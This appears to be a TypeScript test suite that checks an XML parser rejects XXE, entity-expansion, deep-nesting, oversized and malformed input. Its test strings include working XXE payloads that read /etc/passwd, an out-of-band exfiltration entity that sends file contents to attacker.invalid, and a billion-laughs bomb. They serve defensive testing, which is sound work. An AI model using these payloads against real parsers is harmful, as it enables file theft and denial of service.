/**
 * Security vectors for readXml, grouped by threat (after fast-xml-parser's own suite). Every case
 * must end in an XmlError with the expected code: never a TypeError/RangeError, never a hang,
 * never an expanded entity.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readXml, XmlError, type XmlErrorCode } from "./index.js";

function thrown(fn: () => unknown): XmlError {
  try {
    fn();
  } catch (e) {
    if (e instanceof XmlError) return e;
    throw new Error(
      `expected XmlError, got ${e instanceof Error ? `${e.name}: ${e.message}` : String(e)}`,
    );
  }
  throw new Error("expected XmlError, nothing was thrown");
}

function rejects(input: string | Uint8Array, code: XmlErrorCode): XmlError {
  const e = thrown(() => readXml(input));
  expect(e.code, e.message).toBe(code);
  return e;
}

const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s);

describe("XXE (external entities)", () => {
  it("refuses a SYSTEM entity pointing at a local file", () => {
    const e = rejects(
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      "doctype",
    );
    expect(e.message).not.toContain("root:");
  });

  it("refuses an external DTD (SYSTEM and PUBLIC)", () => {
    rejects('<!DOCTYPE r SYSTEM "http://attacker.invalid/x.dtd"><r/>', "doctype");
    rejects('<!DOCTYPE r PUBLIC "-//X//EN" "http://attacker.invalid/x.dtd"><r/>', "doctype");
  });

  it("refuses an external entity in an attribute default", () => {
    rejects(
      '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname"><!ATTLIST r a CDATA "&x;">]><r/>',
      "doctype",
    );
  });

  it("refuses the same document sent as UTF-16", () => {
    const xml =
      '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, "utf16le")]);
    rejects(bytes, "doctype");
  });
});

describe("entity expansion (billion laughs, quadratic blowup)", () => {
  const lol = [
    '<!ENTITY lol0 "lol">',
    ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`),
  ].join("");

  it("refuses nested internal entities", () => {
    rejects(`<?xml version="1.0"?><!DOCTYPE r [${lol}]><r>&lol9;</r>`, "doctype");
  });

  it("refuses one large entity referenced many times", () => {
    const big = "x".repeat(50_000);
    rejects(`<!DOCTYPE r [<!ENTITY a "${big}">]><r>${"&a;".repeat(10_000)}</r>`, "doctype");
  });

  it("never expands an undeclared entity reference", () => {
    expect(rejects("<r>&lol9;</r>", "malformed").message).toContain("&lol9;");
    rejects('<r a="&lol9;"/>', "malformed");
  });
});

describe("parameter entities", () => {
  it("refuses external parameter entities", () => {
    rejects(
      '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]><r/>',
      "doctype",
    );
  });

  it("refuses the out-of-band exfiltration pattern", () => {
    rejects(
      '<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://attacker.invalid/?x=%file;\'>">%eval;%exfil;]><r/>',
      "doctype",
    );
  });
});

describe("DOCTYPE in any position", () => {
  it.each([
    ["alone", "<!DOCTYPE r>"],
    ["before the root", "<!DOCTYPE r><r/>"],
    ["after the declaration and a comment", '<?xml version="1.0"?><!-- c --><!DOCTYPE r><r/>'],
    ["inside the root", "<r><!DOCTYPE r></r>"],
    ["after the root", "<r/><!DOCTYPE r>"],
  ])("refuses a DOCTYPE %s", (_, xml) => {
    rejects(xml, "doctype");
  });

  it("treats other declarations as malformed", () => {
    rejects('<r><!ENTITY x "y"></r>', "malformed");
    rejects("<!doctype r><r/>", "malformed");
  });

  it("accepts the text <!DOCTYPE inside CDATA and comments", () => {
    expect(readXml("<r><![CDATA[<!DOCTYPE x>]]><!-- <!DOCTYPE y> --></r>").children).toEqual([
      { text: "<!DOCTYPE x>", cdata: true },
    ]);
  });
});

describe("deep nesting", () => {
  it("stops 10,000 levels with too-deep, not a stack overflow", () => {
    const e = rejects(`${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}`, "too-deep");
    expect(e.path.startsWith("/a/a/a")).toBe(true);
    expect(e.path.split("/").length - 1).toBe(257);
  });

  it("stops unclosed nesting and self-closing leaves past the limit", () => {
    rejects("<a>".repeat(100_000), "too-deep");
    rejects(`${"<a>".repeat(256)}<b/>${"</a>".repeat(256)}`, "too-deep");
    expect(readXml(`${"<a>".repeat(255)}<b/>${"</a>".repeat(255)}`).local).toBe("a");
  });

  it("handles 10,000 levels iteratively when the limit is raised", () => {
    let el = readXml(`${"<a>".repeat(10_000)}x${"</a>".repeat(10_000)}`, { maxDepth: 10_000 });
    let depth = 1;
    while (el.children[0] !== undefined && "local" in el.children[0]) {
      el = el.children[0];
      depth++;
    }
    expect(depth).toBe(10_000);
  });
});

describe("huge attributes and attribute floods", () => {
  it("refuses an attribute value over 1 MiB", () => {
    rejects(`<r a="${"x".repeat(1024 * 1024 + 1)}"/>`, "limit");
  });

  it("accepts an attribute value of exactly 1 MiB", () => {
    expect(readXml(`<r a="${"x".repeat(1024 * 1024)}"/>`).attrs[0]?.value.length).toBe(1024 * 1024);
  });

  it("refuses more than 256 attributes on one element", () => {
    const attrs = Array.from({ length: 257 }, (_, i) => ` a${i}="v"`).join("");
    const e = rejects(`<r><e${attrs}/></r>`, "limit");
    expect(e.path).toBe("/r/e");
  });

  it("refuses many namespace declarations the same way", () => {
    const decls = Array.from({ length: 300 }, (_, i) => ` xmlns:p${i}="urn:${i}"`).join("");
    rejects(`<r${decls}/>`, "limit");
  });
});

describe("oversized input", () => {
  const twenty = 20 * 1024 * 1024;

  it("refuses 20 MB of bytes before decoding", () => {
    const bytes = new Uint8Array(twenty).fill(0x20);
    bytes.set(utf8("<r>"), 0);
    // "too-large", not a parse error: the size limit fired before the bytes were decoded
    rejects(bytes, "too-large");
  });

  it("refuses a 20 MB string before parsing", () => {
    const text = `<r>${"x".repeat(twenty)}</r>`;
    rejects(text, "too-large");
  });

  it("refuses too many elements", () => {
    const e = thrown(() => readXml(`<r>${"<e/>".repeat(1000)}</r>`, { maxElements: 1000 }));
    expect(e.code).toBe("limit");
  });
});

describe("malformed documents", () => {
  it.each([
    ["empty input", ""],
    ["whitespace only", "  \n"],
    ["a declaration only", '<?xml version="1.0"?>'],
    ["a comment only", "<!-- c -->"],
    ["garbage", "hello world"],
    ["binary noise", "\u0089PNG\r\n"],
    ["an unclosed root", "<r><a></a>"],
    ["an unclosed child", "<r><a></r>"],
    ["a mismatched end tag", "<r><a></b></r>"],
    ["an end tag without a start", "</r>"],
    ["two roots", "<r/><s/>"],
    ["two roots with content", "<r></r><s></s>"],
    ["text before the root", "x<r/>"],
    ["text after the root", "<r/>x"],
    ["CDATA after the root", "<r/><![CDATA[x]]>"],
    ["a bad character reference &#0;", "<r>&#0;</r>"],
    ["a surrogate character reference", "<r>&#xD800;</r>"],
    ["an out-of-range character reference", "<r>&#x110000;</r>"],
    ["a huge character reference", `<r>&#${"9".repeat(30)};</r>`],
    ["an empty character reference", "<r>&#;</r>"],
    ["a bad character reference in an attribute", '<r a="&#1;"/>'],
    ["an undefined entity", "<r>&nbsp;</r>"],
    ["a bare ampersand", "<r>a & b</r>"],
    ["a bare ampersand in an attribute", '<r a="a & b"/>'],
    ["< in an attribute value", '<r a="<"/>'],
    ["]]> in text", "<r>]]></r>"],
    ["an unclosed comment", "<r><!-- x</r>"],
    ["-- inside a comment", "<r><!-- a -- b --></r>"],
    ["an unclosed CDATA section", "<r><![CDATA[x</r>"],
    ["an unclosed processing instruction", "<r><?pi x</r>"],
    ["a late XML declaration", '<r/><?xml version="1.0"?>'],
    ["an XML declaration after whitespace", ' <?xml version="1.0"?><r/>'],
    ["an invalid XML declaration", '<?xml version="2.0"?><r/>'],
    ["a control character", "<r>\u0001</r>"],
    ["a NUL character", "<r>\u0000</r>"],
    ["a lone surrogate in string input", "<r>\uD800</r>"],
    ["a lone surrogate after a surrogate pair", "<r>\u{1F600}\uDC00</r>"],
    ["a control character after a surrogate pair", "<r>\u{1F600}\u0001</r>"],
    ["U+FFFF", "<r>\uFFFF</r>"],
    ["a second byte order mark", "\uFEFF\uFEFF<r/>"],
    ["an unquoted attribute", "<r a=1/>"],
    ["an attribute without a value", "<r a/>"],
    ["duplicate attributes", '<r a="1" a="2"/>'],
    ["attributes without a space", '<r a="1"b="2"/>'],
    ["an unterminated attribute value", '<r a="1/>'],
    ["an unclosed start tag", "<r"],
    ["an invalid element name", "<1r/>"],
    ["< in text", "<r>1 < 2</r>"],
    ["unknown markup", "<r><!FOO></r>"],
  ])("rejects %s", (_, xml) => {
    rejects(xml, "malformed");
  });

  it("rejects an undeclared prefix as a namespace error with the path", () => {
    expect(rejects("<r><a><p:b/></a></r>", "namespace").path).toBe("/r/a/b");
  });

  it("rejects a colon in a processing instruction target (Namespaces in XML)", () => {
    expect(rejects("<r><a><?p:i x?></a></r>", "namespace").path).toBe("/r/a");
    expect(rejects("<?p:i x?><r/>", "namespace").path).toBe("");
    // Held like every namespace error: a later well-formedness error is reported instead.
    rejects("<r><?p:i?><a></r>", "malformed");
  });
});

describe("processing instructions", () => {
  it("end at the first '?>' whatever quotes their content has", () => {
    // A quote-aware scan (fast-xml-parser's) would read <evil/> as part of the instruction.
    const root = readXml('<r><?pi "?><evil/>"?></r>');
    expect(root.children).toEqual([expect.objectContaining({ local: "evil" }), { text: '"?>' }]);
    expect(readXml("<r><?pi it's?></r>").children).toEqual([]);
  });
});

describe("invalid bytes", () => {
  it.each([
    ["a lone continuation byte", [0x3c, 0x72, 0x3e, 0x80, 0x3c, 0x2f, 0x72, 0x3e]],
    ["an overlong encoding of '/'", [0x3c, 0x72, 0x3e, 0xc0, 0xaf, 0x3c, 0x2f, 0x72, 0x3e]],
    ["an encoded surrogate", [0x3c, 0x72, 0x3e, 0xed, 0xa0, 0x80, 0x3c, 0x2f, 0x72, 0x3e]],
    ["a 0xFF byte", [0x3c, 0x72, 0x3e, 0xff, 0x3c, 0x2f, 0x72, 0x3e]],
    ["a truncated sequence at the end", [0x3c, 0x72, 0x2f, 0x3e, 0xe2, 0x82]],
    [
      "a lone surrogate in UTF-16",
      [
        0xfe, 0xff, 0x00, 0x3c, 0x00, 0x72, 0x00, 0x3e, 0xd8, 0x00, 0x00, 0x3c, 0x00, 0x2f, 0x00,
        0x72, 0x00, 0x3e,
      ],
    ],
  ])("rejects %s", (_, bytes) => {
    rejects(new Uint8Array(bytes), "encoding");
  });
});

describe("never anything but XmlError", () => {
  const sample =
    '<?xml version="1.0"?><p:r xmlns:p="urn:p" a="1"><p:c b="&amp;">t<![CDATA[x]]><!--c--></p:c><d/></p:r>';

  it("on arbitrary strings", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 200 }), (s) => {
        try {
          readXml(s);
        } catch (e) {
          if (!(e instanceof XmlError)) throw e;
        }
      }),
      { numRuns: 2000 },
    );
  }, 60_000);

  it("on mutations of a valid document", () => {
    const pieces = [
      "<",
      ">",
      "/",
      "&",
      ";",
      '"',
      "'",
      ":",
      "xmlns",
      "<!",
      "<?",
      "]]>",
      "--",
      "&#0;",
      "p:",
      "\uD800",
      "\u0000",
    ];
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.nat(sample.length), fc.nat(4), fc.constantFrom(...pieces)), {
          maxLength: 6,
        }),
        (edits) => {
          let s = sample;
          for (const [at, cut, piece] of edits) s = s.slice(0, at) + piece + s.slice(at + cut);
          try {
            readXml(s);
          } catch (e) {
            if (!(e instanceof XmlError)) throw e;
          }
        },
      ),
      { numRuns: 3000 },
    );
  }, 60_000);

  it("on arbitrary bytes", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), (bytes) => {
        try {
          readXml(bytes);
        } catch (e) {
          if (!(e instanceof XmlError)) throw e;
        }
      }),
      { numRuns: 2000 },
    );
  }, 60_000);
});
